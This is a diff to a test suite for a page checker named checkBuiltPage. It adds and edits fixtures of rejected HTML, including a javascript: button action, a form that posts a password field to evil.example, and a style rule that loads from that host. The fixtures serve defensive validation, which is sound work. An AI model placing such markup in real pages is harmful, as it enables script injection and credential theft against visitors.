@@ -136,7 +136,7 @@ describe('checkBuiltPage', () => {
     ],
     [
       'a javascript: form action',
-      '<form><button formaction="javascript:alert(1)">x</button></form>',
+      '<button formaction="javascript:alert(1)">x</button>',
       '<button formaction> holds a javascript: URL "javascript:alert(1)"'
     ],
     [
@@ -175,6 +175,11 @@ describe('checkBuiltPage', () => {
       '<object> is not allowed in a page'
     ],
     ['an embed', '<embed src="/x.swf">', '<embed> is not allowed in a page'],
+    [
+      'a form that sends to another site',
+      '<form action="https://evil.example/"><input name="password"></form>',
+      '<form> is not allowed in a page'
+    ],
     [
       'an inline style element',
       '<style>body{background:url(https://evil.example/)}</style>',
